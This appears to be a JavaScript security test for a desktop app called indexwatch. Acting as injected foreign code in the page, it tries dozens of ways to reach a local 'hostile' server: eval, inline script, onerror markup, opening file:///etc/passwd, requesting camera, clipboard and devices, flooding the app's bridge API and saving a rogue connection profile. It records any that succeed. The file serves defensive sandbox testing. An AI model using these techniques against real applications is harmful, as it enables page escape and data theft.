// Attacks by foreign code inside the page. The code precedes the page's own script in an installed copy of the app, so
// nothing drives it from outside. A server that must not be reached listens on HOSTILE_PORT.
/* global HOSTILE_PORT */
const host = `127.0.0.1:${HOSTILE_PORT}`
const worked = []
const pause = (ms) => new Promise((resolve) => setTimeout(resolve, ms))

/** Runs one attempt. An attempt that throws was refused. */
async function attempt(name, run) {
  try {
    const answer = await Promise.race([run(), pause(1_500).then(() => 'nothing')])
    if (answer !== 'nothing' && answer !== undefined && answer !== null && answer !== false) worked.push(name)
  } catch {
    // Refused, as expected.
  }
}

function add(tag, attributes, text = '') {
  const element = document.createElement(tag)
  for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
  element.textContent = text
  document.documentElement.append(element)
  return element
}

async function reachOut() {
  const http = `http://${host}/`
  await attempt('fetch', () => fetch(http))
  await attempt('fetch without an answer', () => fetch(http, { mode: 'no-cors' }))
  // Reports success whether anything was sent or not.
  await attempt('beacon', () => void navigator.sendBeacon(http, 'x'))
  for (const [name, open] of [
    ['socket', () => new WebSocket(`ws://${host}/`)],
    ['event source', () => new EventSource(http)],
  ])
    await attempt(name, () => new Promise((resolve) => (open().onopen = () => resolve('open'))))
  await attempt('transport', () => new WebTransport(`https://${host}/`).ready.then(() => 'open'))
  for (const [tag, attributes] of [
    ['script', { src: http }],
    ['img', { src: http }],
    ['iframe', { src: http }],
    ['object', { data: http }],
    ['embed', { src: http }],
    ['video', { src: http, autoplay: '' }],
    ['audio', { src: http, autoplay: '' }],
    ['webview', { src: http }],
    ['meta', { 'http-equiv': 'refresh', content: `0;url=${http}` }],
    ...['stylesheet', 'icon', 'manifest', 'prefetch', 'prerender', 'modulepreload', 'preload'].map((rel) => [
      'link',
      { rel, href: http, as: 'script' },
    ]),
    ...['dns-prefetch', 'preconnect'].map((rel) => ['link', { rel, href: `https://${rel}.indexwatch.example` }]),
    ['link', { rel: 'preconnect', href: http }],
  ])
    await attempt(tag, () => void add(tag, attributes))
  await attempt('import', () => import(`${http}module.js`))
  await attempt('style', () => void add('style', {}, `@import "${http}"; body { background: url(${http}) }`))
  await attempt('worker', () => {
    const url = URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' }))
    return new Promise((resolve) => (new Worker(url).onmessage = () => resolve('ran')))
  })
  const call = new RTCPeerConnection({
    iceServers: ['udp', 'tcp'].map((transport) => ({
      urls: `turn:${host}?transport=${transport}`,
      username: 'u',
      credential: 'c',
    })),
  })
  call.createDataChannel('out')
  await call.setLocalDescription(await call.createOffer())
  await pause(2_000)
  call.close()
}

async function runText() {
  await attempt('eval', () => (0, eval)('"ran"'))
  await attempt('function of text', () => new Function('return "ran"')())
  await attempt('timer of text', async () => {
    setTimeout('globalThis.textRan = true')
    await pause(50)
    return globalThis.textRan
  })
  await attempt('script of text', () => {
    add('script', {}, 'globalThis.scriptRan = true')
    return globalThis.scriptRan
  })
  await attempt('markup', async () => {
    const policy = trustedTypes.createPolicy('svelte-trusted-html', { createHTML: (text) => text })
    add('div', {}).innerHTML = policy.createHTML('<img src="data:," onerror="globalThis.markupRan = true">')
    await pause(100)
    return globalThis.markupRan
  })
}

async function saveAndOpen() {
  const link = add('a', { download: 'planted.txt' })
  for (const href of [URL.createObjectURL(new Blob(['planted'])), 'data:text/plain,planted', `http://${host}/`]) {
    link.href = href
    link.click()
  }
  for (const target of [
    `http://${host}/`,
    'file:///etc/passwd',
    'javascript:1',
    'about:blank',
    'mailto:a@b',
    'ssh://a',
  ])
    await attempt(`window ${target}`, () => open(target))
}

async function leave() {
  for (const target of [`http://${host}/`, 'file:///etc/passwd', 'data:text/html,x', 'ssh://a', 'mailto:a@b']) {
    location.href = target
    await pause(50)
  }
  const form = add('form', { action: `http://${host}/`, method: 'post' })
  await attempt('form', () => void form.submit())
  // Last, because Chromium ends a page that may not register one.
  await attempt('service worker', () => navigator.serviceWorker.register(`http://${host}/worker.js`))
}

async function ask() {
  await attempt('alert', () => void alert('hostile'))
  await attempt('confirm', () => confirm('hostile'))
  await attempt('prompt', () => prompt('hostile'))
  await attempt('print', () => void print())
  await attempt('file', () => void add('input', { type: 'file' }).click())
  for (const name of ['showOpenFilePicker', 'showSaveFilePicker', 'showDirectoryPicker'])
    await attempt(name, () => globalThis[name]())
  await attempt('full screen', () => document.documentElement.requestFullscreen().then(() => 'full'))
  await attempt('notification', async () => (await Notification.requestPermission()) === 'granted')
  await attempt('camera', () => navigator.mediaDevices.getUserMedia({ video: true, audio: true }))
  await attempt('screen', () => navigator.mediaDevices.getDisplayMedia())
  await attempt('place', () => new Promise((resolve) => navigator.geolocation.getCurrentPosition(resolve)))
  await attempt('clipboard', () => navigator.clipboard.readText())
  for (const name of ['usb', 'hid', 'serial', 'bluetooth'])
    await attempt(name, () => navigator[name][name === 'serial' ? 'requestPort' : 'requestDevice']({ filters: [] }))
}

async function store() {
  await attempt('database', async () => {
    const opened = await new Promise((resolve) => {
      const request = indexedDB.open('planted')
      request.onsuccess = () => resolve('opened')
      request.onerror = () => resolve(undefined)
    })
    return opened
  })
  await attempt('file', async () => {
    const folder = await navigator.storage.getDirectory()
    const file = await (await folder.getFileHandle('planted', { create: true })).createWritable()
    await file.write(new Uint8Array(1_000_000))
    await file.close()
    return 'written'
  })
  await attempt('bucket', () => navigator.storageBuckets.open('planted'))
  await attempt('cache', () => caches.open('planted'))
}

/** Attacks through the bridge that the page may use: floods, and a host that is not allowed. */
async function useBridge() {
  const large = new Array(3_000_000).fill(0)
  const long = 'x'.repeat(50_000_000)
  for (const args of [large, { deep: large }, { text: long }, long])
    for (let time = 0; time < 4; time++) await attempt('a flood', async () => (await indexwatch.getSnapshot(args)).ok)
  for (const name of Object.keys(indexwatch).filter((each) => each !== 'onUpdate'))
    await attempt(`a long ${name}`, async () => (await indexwatch[name]({ [name]: long })).ok)
  const profile = {
    ...{ id: 'hostile', name: 'Hostile', auth: 'basic', isEnabled: true, keyId: 'key' },
    ...{ webSocketUrl: `ws://${host}/`, restUrl: `http://${host}` },
  }
  await attempt('a test', async () => (await indexwatch.testConnection({ profile, keySecret: 's' })).ok)
  await attempt('a connection', async () => (await indexwatch.saveProfile({ profile, keySecret: 's' })).ok)
}

const { indexwatch } = globalThis
// The list name is saved to disk, where the test reads it. Without the bridge, no report appears.
const report = async (name) =>
  indexwatch?.createList({ name: `${name}: ${worked.join(', ') || 'nothing'}`.slice(0, 60) })
await runText()
await reachOut()
await store()
await saveAndOpen()
await ask()
await leave()
await report('alone')
if (indexwatch !== undefined) {
  await useBridge()
  await report('by the bridge')
}
